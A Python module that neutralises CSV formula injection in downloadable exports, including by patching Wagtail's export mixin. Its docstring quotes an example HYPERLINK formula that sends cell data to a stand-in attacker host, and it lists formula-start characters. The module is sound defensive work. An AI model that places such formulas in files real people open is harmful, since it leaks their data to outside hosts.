"""CSV files for people who open them in a spreadsheet program.

A cell that starts with = + - @ (or a tab or carriage return before one) is read as a
formula by Excel, LibreOffice and Google Sheets: a name typed by a stranger such as
`=HYPERLINK("http://evil.example/?"&A1)` would run in the organiser's spreadsheet.
Every CSV export writes through `csv_writer`, which puts a single quote before such a
text; the quote shows, nothing is evaluated. Numbers stay numbers.
"""

import csv

# Full-width forms too: some spreadsheet programs accept them as formula signs.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def neutralise(cell):
    """The cell as text a spreadsheet program shows and never evaluates."""
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return "'" + cell
    return cell


class SafeCsvWriter:
    def __init__(self, file, **options):
        self.writer = csv.writer(file, **options)

    def writerow(self, row):
        return self.writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(file, **options):
    """Use instead of csv.writer for anything a person downloads."""
    return SafeCsvWriter(file, **options)


def protect_wagtail_exports():
    """Wagtail's own CSV exports (reports, page and snippet listings) write cells as they
    are (its XLSX export already refuses formulas): neutralise them the same way."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if getattr(SpreadsheetExportMixin, "neutralises_formulas", False):
        return

    def write_neutralised_csv_row(self, writer, row_dict):
        # As Wagtail's own write_csv_row, with each value neutralised once it is text.
        return writer.writerow(
            {
                field: neutralise(self.preprocess_field_value(field, value, self.FORMAT_CSV))
                for field, value in row_dict.items()
            }
        )

    SpreadsheetExportMixin.write_csv_row = write_neutralised_csv_row
    SpreadsheetExportMixin.neutralises_formulas = True
